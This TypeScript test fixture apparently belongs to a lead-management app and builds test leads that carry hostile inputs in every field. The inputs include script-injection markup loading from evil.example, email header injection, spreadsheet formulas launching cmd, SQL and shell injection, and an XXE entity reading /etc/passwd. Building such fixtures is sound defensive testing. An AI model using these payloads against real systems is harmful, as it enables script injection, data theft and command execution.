import { LIMITS } from '../fields/limits.ts';

/** Markup that runs a script if a text is treated as HTML. Tests detect the dialog of `alert`. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none!important}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
];

/** Quotes and attributes that break out of a value. */
const QUOTES = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '";alert(1);//',
  "';alert(1);//",
  '\\";alert(1);//',
  '\\',
  '"""',
  "'''",
  '`$\u007balert(1)}`',
  'O\'Neill & "Söhne" <GmbH>',
  '" style="position:fixed;inset:0',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
];

/** Payloads that add a recipient, a header or a line inside an address or a message. */
const HEADERS = [
  '?bcc=victim@evil.example',
  '&bcc=victim@evil.example&body=gone',
  '?subject=x&cc=victim@evil.example',
  'a%0ABcc:victim@evil.example',
  'a%0D%0ABcc:victim@evil.example',
  'x\r\nBcc: victim@evil.example',
  'x\nBcc: victim@evil.example\n\nNew body',
  'x\r\n\r\n<script>alert(1)</script>',
  'x\r\nSet-Cookie: admin=1',
  'x\u2028Bcc: victim@evil.example',
  'x\u2029Bcc: victim@evil.example',
  '#fragment',
  '?text=other&phone=000',
  '+971 50 123 4567?text=hi',
  '//evil.example/971',
  '../../../etc/passwd',
];

/** Cells that a spreadsheet treats as a formula or the end of a field. */
const CELLS = [
  '=1+1',
  '=HYPERLINK("//evil.example","Invoice")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1"',
  'a","=1+1',
  'a;=1+1',
  'a"\r\n=1+1,"',
  'a,b,c',
  'a\tb',
  "'=1+1",
  '%0A=1+1',
];

/** Text with a misleading direction, width or form. */
const UNICODE = [
  '\u202eexe.fdp\u202c',
  '\u202eabc',
  '\u2066abc\u2069 \u2067def',
  '\u200fabc\u200e',
  'a\u200bb\u200cc\u200dd',
  '\u2060x\u2060\u2060',
  'a\u00adb\u00adc',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324A\u0351\u036b\u0343L\u0334\u0319',
  '\ufdfd\ufdfd\ufdfd\ufdfd',
  'ｆｕｌｌ　ｗｉｄｔｈ＜ｓｃｒｉｐｔ＞',
  'ﬁ ﬀ ǆ ß İ ı',
  'مرحبا بكم في دبي',
  'عربي <b>bold</b> عربي',
  '‏العربية and English 123‏',
  'שלום עולם',
  '水力发电与比特币矿场',
  'हिन्दी में संदेश',
  '👩‍👩‍👧‍👦 🇦🇪 ⛏️ 👍🏽',
  '😀'.repeat(20),
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'e\u0301 and é',
  '\ufeffmark\ufeff',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '__proto__',
  'constructor',
];

/** Syntax of templates, queries and shells. */
const LANGUAGES = [
  '{{7*7}}',
  '$\u007b7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{constructor.constructor("alert(1)")()}}',
  '%s%s%n%x',
  "'; DROP TABLE contacts; --",
  "' OR '1'='1",
  '" OR ""="',
  '1; SELECT pg_sleep(10)--',
  "admin'/*",
  '%',
  '_%_',
  '$(reboot)',
  '`reboot`',
  '| cat /etc/passwd',
  '*)(uid=*))(|(uid=*',
  '{"$gt":""}',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
];

/** As long as a field allows, without line break opportunities. */
const LONG = ['W'.repeat(5_000), 'م'.repeat(5_000), '水'.repeat(5_000), '='.repeat(5_000)];

/** Texts that faulty code would execute, misroute, damage or fail on. */
export const HOSTILE_PAYLOADS = [
  ...MARKUP,
  ...QUOTES,
  ...HEADERS,
  ...CELLS,
  ...UNICODE,
  ...LANGUAGES,
  ...LONG,
];

/** The domain of these leads' email addresses. A search for it finds exactly these leads. */
export const HOSTILE_WORD = 'hostilecorpus';

/** Cuts a text to a field's limit at a character boundary. */
const cut = (text: string, max: number) =>
  text
    .slice(0, max)
    .toWellFormed()
    .replace(/\ufffd$/, '');

/** A lead with the payload in every text, and in the reason that staff enter. */
export const hostileLead = (payload: string, serial: number) => ({
  fullName: cut(payload, LIMITS.name),
  email: hostileEmail(payload, serial),
  companyName: cut(payload, LIMITS.company),
  phoneNumber: cut(payload, LIMITS.phone),
  message: cut(payload, LIMITS.message),
  reason: cut(payload, LIMITS.reason),
});

/** An email address with those characters of a text that browsers accept in one. */
function hostileEmail(text: string, serial: number): string {
  const kept = text.replace(/[^\w.!#$%&'*+/=?^`{|}~-]/g, '').slice(0, 50);
  return `${kept}.${serial}@${HOSTILE_WORD}.example`.replace(/^\.+/, '');
}
